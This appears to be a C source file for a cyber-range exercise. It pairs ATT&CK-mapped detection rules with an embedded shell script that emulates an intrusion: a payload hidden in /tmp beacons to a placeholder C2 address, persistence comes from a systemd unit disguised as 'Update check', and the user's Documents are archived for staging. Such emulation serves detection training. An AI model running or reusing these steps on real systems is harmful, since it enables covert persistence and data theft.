#include "range/play_table.h"

const struct telemetry_rule play_rules[] = {
    [RULE_VIEWER_SHELL] = {"range-viewer-shell", "Document viewer started a shell", "high", 80,
        "A program that shows documents has no reason to start a shell", "TA0002", "Execution",
        "T1059.004", "Unix Shell"},
    [RULE_ENCODED] = {"range-encoded-launcher", "Base64 text decoded and piped into a shell",
        "high", 86, "A script that hides itself from whoever reads the command line", "TA0005",
        "Defense Evasion", "T1140", "Deobfuscate/Decode Files or Information"},
    [RULE_HIDDEN_PROGRAM] = {"range-hidden-program", "Program started from a hidden folder in /tmp",
        "high", 82, "Installed software does not live in /tmp", "TA0005", "Defense Evasion",
        "T1564.001", "Hidden Files and Directories"},
    [RULE_UNIT] = {"range-user-unit", "systemd user unit written by a shell", "medium", 60,
        "A unit that starts at each login", "TA0003", "Persistence", "T1543.002",
        "Systemd Service"},
    [RULE_ARCHIVE] = {"range-staged-archive", "文書フォルダの圧縮ファイルを/tmpに作成", "medium",
        55, "Documents packed in a place where nobody looks", "TA0009", "Collection", "T1560.001",
        "Archive via Utility"},
    [RULE_BEACON] = {"range-beacon", "Even beacon to an address nobody else talks to", "critical",
        99, "One process, one address, the same interval again and again", "TA0011",
        "Command and Control", "T1071", "Application Layer Protocol"},
};

const struct play_file play_files[] = {
    {PLAY_DOCUMENT, "the document is there", RULE_NONE},
    {PLAY_PAYLOAD, "the document brought a program", RULE_NONE},
    {PLAY_BEACON, "the program hides in /tmp", RULE_NONE},
    {PLAY_FOLDER "/who", "it looked around", RULE_NONE},
    {PLAY_UNIT, "it will come back at each login", RULE_UNIT},
    {PLAY_ARCHIVE, "documents are staged", RULE_ARCHIVE},
};
const size_t play_file_count = sizeof(play_files) / sizeof(*play_files);

const char play_script[] =
    "d=" PLAY_FOLDER "\n"
    "mkdir -p $d\n"
    "cp " PLAY_PAYLOAD " $d/updated\n"
    "chmod 755 $d/updated\n"
    "sleep @\n"
    "$d/updated " RANGE_C2_ADDRESS " 443 1000 &\n"
    "sleep @\n"
    "id > $d/who\n"
    "mkdir -p " PLAY_HOME "/.config/systemd/user\n"
    "printf '[Unit]\\nDescription=Update check\\n[Service]\\nExecStart=%s\\n[Install]\\n"
    "WantedBy=default.target\\n' \"$d/updated " RANGE_C2_ADDRESS " 443 1000\" > " PLAY_UNIT "\n"
    "sleep @\n"
    "tar -czf $d/q3.tgz -C " PLAY_HOME "/Documents .\n"
    "wait\n";
